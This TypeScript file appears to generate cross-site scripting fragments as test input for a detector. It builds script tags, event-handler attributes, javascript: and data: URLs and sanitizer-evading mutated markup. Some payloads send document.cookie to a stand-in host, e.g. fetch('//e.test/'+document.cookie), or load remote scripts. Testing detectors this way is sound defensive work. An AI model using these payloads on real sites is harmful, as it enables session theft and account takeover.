// Fragments that run script in the page into which they are pasted, made from a grammar: place, way out of it, element or attribute,
// spelling. Written from the HTML and URL standards, independently of the detector.
import type { Random } from './random.ts';
import type { Fragment } from './sql-fragments.ts';

const FAMILIES = {
  'script element': (random: Random) => leave(random) + scriptElement(random),
  'event handler': (random: Random) => leave(random) + handlerElement(random),
  'script address': (random: Random) => leave(random) + addressElement(random),
  'loading element': (random: Random) => leave(random) + loadingElement(random),
  'added attribute': addedAttribute,
  'address alone': (random: Random) => random.pick(['', '', ' ', '\t', '\u0001']) + address(random, false),
  'script string': scriptString,
  'mutated markup': mutated,
} as const;
export const MARKUP_FAMILIES: readonly string[] = Object.keys(FAMILIES);

export function markupFragments(random: Random, perFamily: number): Fragment[] {
  return Object.entries(FAMILIES).flatMap(([family, make]) =>
    Array.from({ length: perFamily }, () => ({ family, value: make(random) })),
  );
}

/** From text, an attribute, a raw-text element, a comment or a script to where a tag is read. */
function leave(random: Random): string {
  return random.pick([
    '',
    '',
    '',
    'hello ',
    '">',
    "'>",
    '>',
    '</textarea>',
    '</title>',
    '-->',
    '"/>',
    '</script>',
    '</style>',
    'x">y',
    '</noscript>',
  ]);
}

function anyCase(random: Random, name: string): string {
  const style = random.pick(['lower', 'lower', 'upper', 'mixed']);
  if (style === 'lower') return name;
  if (style === 'upper') return name.toUpperCase();
  return Array.from(name, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter)).join('');
}

const blank = (random: Random): string => random.pick([' ', ' ', ' ', '/', '\n', '\t', '\f', '\r\n', ' / ', '//']);

/** After a value without quotes a slash would belong to it. */
const afterValue = (random: Random): string => random.pick([' ', ' ', '\n', '\t', '\f', '\r\n', ' / ']);

function quoted(random: Random, value: string): string {
  const quotes = ['"', "'"].filter((quote) => !value.includes(quote));
  if (quotes.length === 0) return `"${value.replaceAll('"', '&quot;')}"`;
  if (!/[\s"'`=<>]/.test(value) && random.chance(0.4)) return value;
  const quote = random.pick(quotes);
  return `${quote}${value}${quote}`;
}

function code(random: Random): string {
  const number = random.whole(1, 99);
  return random.pick([
    `alert(${number})`,
    `alert\`${number}\``,
    `prompt(document.domain)`,
    `confirm(document.cookie)`,
    `fetch('//e.test/'+document.cookie)`,
    `location='//e.test/'+document.cookie`,
    `document.location.href='//e.test'`,
    `eval(atob('YWxlcnQoMSk='))`,
    `top['al'+'ert'](${number})`,
    `window['alert'](${number})`,
    `setTimeout('alert(${number})',0)`,
    `[].constructor.constructor('alert(1)')()`,
    `import('//e.test/x.js')`,
    `new Image().src='//e.test/?'+document.cookie`,
    `(alert)(${number})`,
    `self.alert?.(${number})`,
    `throw onerror=alert,${number}`,
    `document.write('<img src=x>')`,
  ]);
}

function scriptElement(random: Random): string {
  const name = anyCase(random, 'script');
  return random.oneOf(
    () => `<${name}>${code(random)}</${name}>`,
    () => `<${name}${blank(random)}src=${quoted(random, '//e.test/x.js')}></${name}>`,
    () => `<${name}${blank(random)}type=${quoted(random, 'module')}>${code(random)}</${name}>`,
    () => `<${name}>${code(random)}`,
    () => `<${name} >${code(random)}</${name} >`,
    () => `<svg><${name}${blank(random)}href=${quoted(random, 'data:,alert(1)')} /></svg>`,
    () => `<svg><${name}>${code(random).replaceAll('(', '&#40;')}</${name}>`,
  );
}

const HANDLERS: readonly (readonly [string, string])[] = [
  ['img', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input', 'autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onloadstart'],
  ['a', 'onmouseover'],
  ['div', 'onclick'],
  ['marquee', 'onstart'],
  ['select', 'autofocus onfocus'],
  ['button', 'onpointerenter'],
  ['p', 'onmousemove'],
  ['iframe', 'onload'],
  ['object', 'onerror'],
  ['style', 'onload'],
  ['textarea', 'onbeforeinput'],
  ['x-y', 'tabindex=1 onfocusin'],
  ['custom', 'onanimationend'],
  ['form', 'onsubmit'],
  ['video', 'autoplay oncanplay'],
  ['dialog', 'open onclose'],
  ['h1', 'contenteditable oninput'],
  ['b', 'onwheel'],
  ['td', 'ondblclick'],
  ['xss', 'onscrollend'],
  ['div', 'popover onbeforetoggle'],
];

function handlerElement(random: Random): string {
  const [name, before] = random.pick(HANDLERS);
  const parts = before.split(' ').map((part) => anyCase(random, part));
  const sign = random.pick(['=', '=', '=', ' = ', '=\n']);
  const script = random.chance(0.2) ? encoded(random, code(random)) : code(random);
  const end = random.pick(['>', '>', '/>', '', ' x=1>', '//']);
  const last = parts.pop() ?? '';
  return `<${anyCase(random, name)}${blank(random)}${parts.map((part) => part + afterValue(random)).join('')}${last}${sign}${quoted(random, script)}${end === '//' || end === '' ? ` ${end}` : end}`;
}

/** Some characters as references, as an attribute may write them. */
function encoded(random: Random, text: string): string {
  return Array.from(text, (letter) => {
    if (!random.chance(0.3)) return letter;
    const point = letter.charCodeAt(0);
    return random.pick([
      `&#${point};`,
      `&#x${point.toString(16)};`,
      `&#0000${point};`,
      `&#x${point.toString(16).toUpperCase()};`,
    ]);
  }).join('');
}

function address(random: Random, inAttribute: boolean): string {
  const scheme = anyCase(random, random.pick(['javascript', 'javascript', 'javascript', 'vbscript']));
  const broken = random.chance(0.3) ? scheme.slice(0, 4) + random.pick(['\t', '\n', '\r']) + scheme.slice(4) : scheme;
  const whole = random.oneOf(
    () => `${broken}:${code(random)}`,
    () => `${broken}:${code(random)}`,
    () => `${broken}://x%0a${code(random)}`,
    () => `${broken}:/*x*/${code(random)}`,
    () => `${anyCase(random, 'data')}:text/html,<script>${code(random)}</script>`,
    () => `data:text/html;base64,${Buffer.from(`<script>${code(random)}</script>`).toString('base64')}`,
    () => `data:image/svg+xml,<svg onload=${code(random).replaceAll(' ', '/')}>`,
  );
  return inAttribute && random.chance(0.35) ? encoded(random, whole) : whole;
}

function addressElement(random: Random): string {
  const value = quoted(random, address(random, true));
  const gap = blank(random);
  return random.oneOf(
    () => `<a${gap}href=${value}>click</a>`,
    () => `<${anyCase(random, 'a')}${gap}${anyCase(random, 'href')}=${value}>`,
    () => `<form${gap}action=${value}><input type=submit></form>`,
    () => `<button${gap}formaction=${value}>x</button>`,
    () => `<iframe${gap}src=${value}></iframe>`,
    () => `<object${gap}data=${value}></object>`,
    () => `<embed${gap}src=${value}>`,
    () => `<svg><a${gap}xlink:href=${value}><text y=20>x</text></a></svg>`,
    () => `<math${gap}href=${value}>x</math>`,
    () => `<area${gap}href=${value}>`,
    () => `<svg><animate${gap}attributeName=href${gap === '/' ? ' ' : gap}values=${value} /></svg>`,
  );
}

function loadingElement(random: Random): string {
  const gap = blank(random);
  return random.oneOf(
    () => `<iframe${gap}src=${quoted(random, '//e.test/')}></iframe>`,
    () =>
      `<iframe${gap}srcdoc=${quoted(random, `&lt;script&gt;${code(random).replaceAll('"', '')}&lt;/script&gt;`)}></iframe>`,
    () => `<object${gap}data=${quoted(random, '//e.test/x.swf')}></object>`,
    () => `<embed${gap}src=${quoted(random, '//e.test/x.swf')}>`,
    () => `<base${gap}href=${quoted(random, '//e.test/')}>`,
    () =>
      `<meta${gap}http-equiv=refresh content=${quoted(random, `0;url=${address(random, true).replaceAll('"', '')}`)}>`,
    () => `<link${gap}rel=stylesheet href=${quoted(random, '//e.test/x.css')}>`,
    () => `<style>@import '//e.test/x.css';</style>`,
    () => `<form${gap}action=${quoted(random, 'https://e.test/')}><input name=password></form>`,
    () => `<frameset${gap}onload=${quoted(random, code(random))}>`,
    () => `<svg><use${gap}href=${quoted(random, 'data:image/svg+xml;base64,PHN2Zz4=#x')} /></svg>`,
    () => `<svg><set${gap}attributeName=onmouseover to=${quoted(random, code(random))}></svg>`,
  );
}

function addedAttribute(random: Random): string {
  const quote = random.pick(['"', '"', "'", '']);
  const start = random.pick(['', 'x', '1', 'blue', 'http://e.test/']);
  const event = anyCase(
    random,
    random.pick([
      'onmouseover',
      'onfocus',
      'onclick',
      'onerror',
      'onload',
      'onpointerdown',
      'ontoggle',
      'onkeyup',
      'onanimationstart',
    ]),
  );
  const gap = quote === '' ? random.pick([' ', '\t', '\n']) : random.pick([' ', '\n', '/', '\t', '']);
  const script = code(random).replaceAll(quote === '' ? /["'<> ]/g : quote, random.pick(['`', '`']));
  const also = random.pick(['', ' autofocus', ' tabindex=1', ' style=display:block']);
  if (quote === '') return `${start === '' ? 'x' : start}${gap}${event}=${script}${also}`;
  return random.oneOf(
    () => `${start}${quote}${gap}${event}=${quote}${script}`,
    () => `${start}${quote}${gap}${event}=${quote}${script}${quote}${also} x=${quote}`,
    () => `${start}${quote}${gap}autofocus${gap === '' ? ' ' : gap}${event}=${quote}${script}`,
    () => `${start}${quote}${gap}${event}=${script.replaceAll(/[\s<>]/g, '')}${also} `,
    () => `${start}${quote} href=${quote}${address(random, true).replaceAll(quote, '')}`,
  );
}

function scriptString(random: Random): string {
  const quote = random.pick(["'", '"']);
  const script = code(random).replaceAll(quote, '`');
  return random.oneOf(
    () => `${random.pick(['', 'x'])}${quote};${script}//`,
    () => `${random.pick(['', '1'])}${quote}-${script}-${quote}`,
    () => `${quote}+${script}+${quote}`,
    () => `${quote});${script};//`,
    () => `\\${quote};${script}//`,
    () => `${quote}};${script};{${quote}`,
    () => `${quote}||${script}||${quote}`,
    () => `\${${script}}`,
    () => `${quote},${script},${quote}`,
    () => `${quote}]);${script};([${quote}`,
    () => `</script><script>${code(random)}</script>`,
  );
}

function mutated(random: Random): string {
  const handler = `<img src=x onerror=${quoted(random, code(random))}>`;
  const inner = `<img src=x onerror=${random.pick(['alert(1)', 'prompt(1)', 'eval(name)'])}>`;
  return random.oneOf(
    () => `<noscript><p title="</noscript>${inner}">`,
    () => `<svg><style><a id="</style>${inner}"></a></style></svg>`,
    () =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner.replaceAll('<', '&lt;')}">${handler}`,
    () => `<textarea><img title="</textarea>${inner}"></textarea>`,
    () => `<!--><svg onload=${quoted(random, code(random))}>`,
    () => `<!--x--!>${handler}`,
    () => `<![CDATA[><script>${code(random)}</script>]]>`,
    () => `<<script>${code(random)}//<</script>`,
    () => `<img """>${scriptElement(random)}">`,
    () => `<svg><desc><![CDATA[</desc>${handler}]]></svg>`,
    () => `<a title='<' ${anyCase(random, 'onclick')}=${quoted(random, code(random))}>`,
    () => `<img alt="a>b" src=x onerror=${quoted(random, code(random))}>`,
    () => `<title><a href="</title>${inner}"></title>`,
    () => `</p/x=">" ><${anyCase(random, 'svg')}/onload=${quoted(random, code(random))}>`,
    () => `<template><style></template>${handler}`,
  );
}
